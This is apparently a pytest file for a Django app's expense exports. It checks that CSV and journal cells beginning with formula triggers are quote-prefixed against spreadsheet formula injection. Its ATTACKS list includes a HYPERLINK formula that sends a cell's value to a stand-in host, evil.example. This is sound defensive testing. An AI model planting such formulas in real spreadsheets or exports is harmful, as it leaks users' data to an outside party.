"""Issue 15, fault 3: no exported cell runs as a formula in a spreadsheet (core/exports.py),
in every export — today the expenses' CSV and journal."""

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

from portico.core.exports import csv_writer, neutralise
from portico.expenses import actions
from tests.factories import ExpenseFactory

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
    "+34 600 000 000",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_starting_with_a_formula_trigger_is_quoted(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Cafetería Núñez", "Cafetería Núñez"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (Decimal("-12.50"), Decimal("-12.50")),  # numbers stay numbers, negative ones too
        (-3, -3),
        (1.5, 1.5),
        (date(2026, 11, 3), "2026-11-03"),
        (True, "True"),
    ],
)
def test_other_cells_are_written_as_they_are(value, expected):
    assert neutralise(value) == expected


def test_the_csv_writer_neutralises_every_cell():
    out = io.StringIO()
    csv_writer(out, delimiter=";").writerows([["=1+1", Decimal("-1.5"), "ok"]])
    assert out.getvalue() == "'=1+1;-1.5;ok\r\n"


def _ready(personas, merchant, note):
    return ExpenseFactory(
        account=personas.account, merchant=merchant, note=note, state="ready", category="meals"
    )


@pytest.mark.django_db
@pytest.mark.parametrize("format", ["csv", "journal"])
def test_expense_exports_neutralise_merchants_and_notes(client_for, personas, format):
    for attack in ATTACKS:
        _ready(personas, merchant=attack, note="@note")
    _ready(personas, merchant="", note="-5 descuento")
    export = actions.export_expenses(member=personas.owner, account=personas.account, format=format)
    response = client_for(personas.owner).get(reverse("expenses:export_download", args=[export.pk]))
    assert response.status_code == 200
    body = b"".join(response.streaming_content if response.streaming else [response.content])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))[1:]
    assert len(rows) == (len(ATTACKS) + 1) * (2 if format == "journal" else 1)
    text_cells = [cell for row in rows for cell in row if cell and not _number(cell)]
    assert text_cells and all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for cell in text_cells
    )
    amounts = [row[2] for row in rows] if format == "csv" else [row[4] or row[5] for row in rows]
    assert all(_number(amount) for amount in amounts)


def _number(cell):
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


def test_every_export_writes_through_core_exports():
    """No module but core/exports.py writes CSV or spreadsheets itself (ARCHITECTURE.md)."""
    root = Path(__file__).resolve().parent.parent / "portico"
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|xlsxwriter|tablib")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "exports.py" or path.parent.name != "core"
        if "migrations" not in path.parts and writers.search(path.read_text())
    ]
    assert offenders == []
